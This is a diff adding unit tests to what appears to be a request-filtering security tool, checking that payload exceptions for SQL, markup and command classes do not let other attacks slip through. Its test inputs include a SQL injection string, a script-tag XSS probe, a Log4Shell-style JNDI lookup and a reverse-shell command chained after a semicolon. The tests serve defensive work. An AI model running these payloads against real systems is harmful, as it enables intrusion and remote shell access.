@@ -1,16 +1,21 @@
 """`payload`: what the contract pins down is left alone, everything else is read."""
 
 import json
+from collections.abc import Set
 from typing import Any
+from urllib.parse import quote
 
 import pytest
+from tests.unit.controls.guests import Guests
 from tests.unit.engine.drive import EVENT_ID, request_head
 
 from garrison.config.load import load_settings
+from garrison.controls.payload import CONTROL
 from garrison.core.errors import ConfigError
 from garrison.core.event import Event
 from garrison.engine.exchange import Exchange
 from garrison.payload.gather import head_texts
+from garrison.payload.scanner import Scanner
 from garrison.wiring import build_policy
 
 SQL = "1' or '1'='1"
@@ -186,3 +191,88 @@ def test_a_field_that_was_harmless_before_hides_nothing_beside_it() -> None:
 def test_addresses_of_proxies_are_not_read_and_anything_else_is() -> None:
     assert head_texts({"x-forwarded-for": "203.0.113.7, 2001:db8::1"}) == []
     assert head_texts({"x-forwarded-for": "127.0.0.1' or 1=1"}) == [("header.x-forwarded-for", "127.0.0.1' or 1=1")]
+
+
+def excepting(*classes: str) -> str:
+    some = [
+        f"{{reason: payload-{each}, principal: 'a:1', expires: '2030-01-01', note: writes about it}}"
+        for each in classes
+    ]
+    return f"controls: {{payload: {{mode: enforce, except: [{', '.join(some)}]}}}}"
+
+
+COMMAND = "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+HIDING = {
+    "sql": SQL,
+    "markup": "<script>alert(1)</script>",
+    "command": COMMAND,
+    "template": "{{7*7}}${jndi:ldap://a.example/b}",
+}
+
+
+def visited(guests: Guests, *texts: str, who: str = "a:1") -> tuple[int, Set[str], Set[str]]:
+    """The status that `who` gets who says `texts`, what denied, and what was only observed."""
+    visit = guests.begin(who, line="GET /items?tag=" + "&tag=".join(map(quote, texts)))
+    status = visit.end()
+    assert visit.event
+    denied, observed = [{each.id for each in some} for some in (visit.event.reasons, visit.event.observed)]
+    return status, denied & PAYLOAD, observed & PAYLOAD
+
+
+def wrapped(text: str) -> str:
+    return "".join(f"\\u{ord(sign):04x}" for sign in text)
+
+
+PAYLOAD = {spec.id for spec in CONTROL.reasons.specs}
+
+
+@pytest.mark.parametrize(
+    "excepted", [["sql"], ["command"], ["markup"], ["sql", "markup"], ["sql", "markup", "command"]]
+)
+def test_what_is_excepted_hides_nothing_in_the_same_text(excepted: list[str]) -> None:
+    guests = Guests(excepting(*excepted))
+    names = {f"payload-{each}" for each in excepted}
+    for others in ([], *[[each] for each in HIDING if each not in excepted]):
+        for border in (" ", "\n" + "lorem ipsum " * 30):
+            text = border.join(HIDING[each] for each in (*excepted, *others))
+            status, denied, observed = visited(guests, text)
+            assert denied == {f"payload-{each}" for each in others}, text
+            assert observed <= names if others else observed == names
+            assert (status == 403) is bool(others)
+
+
+def test_what_is_excepted_hides_nothing_in_a_wrapping() -> None:
+    guests = Guests(excepting("sql"))
+    assert visited(guests, f"{SQL} {wrapped(COMMAND)}")[1] == {"payload-command"}
+    assert visited(guests, f"{SQL} {wrapped('lorem ipsum')}") == (200, set(), {"payload-sql"})
+
+
+def test_many_that_are_excepted_hide_nothing_behind_them() -> None:
+    guests = Guests(excepting("sql", "markup"))
+    many = [f"{SQL} {number}" for number in range(20)] + [f"<script>a({number})</script>" for number in range(20)]
+    assert visited(guests, *many) == (200, set(), {"payload-sql", "payload-markup"})
+    assert visited(guests, *many, COMMAND)[1] == {"payload-command"}
+
+
+def test_a_crowd_of_what_is_excepted_is_excepted_as_a_crowd_only() -> None:
+    crowd = "'or'" * 600
+    assert visited(Guests(excepting("sql")), crowd) == (403, {"payload-crowded"}, {"payload-sql"})
+    assert visited(Guests(excepting("sql", "crowded")), crowd)[1] == set()
+
+
+def test_nothing_is_looked_for_twice_that_nobody_excepted(monkeypatch: pytest.MonkeyPatch) -> None:
+    read: list[bytes] = []
+    scan = Scanner.scan
+
+    def reading(self: Scanner, data: bytes, most: int) -> list[tuple[int, int]]:
+        read.append(data)
+        return scan(self, data, most)
+
+    monkeypatch.setattr(Scanner, "scan", reading)
+    both = HIDING["sql"] + " " + HIDING["markup"]
+    counts = []
+    for guests in (Guests(excepting()), Guests(excepting("command"))):
+        read.clear()
+        visited(guests, both)
+        counts.append(len(read))
+    assert counts[0] == counts[1]
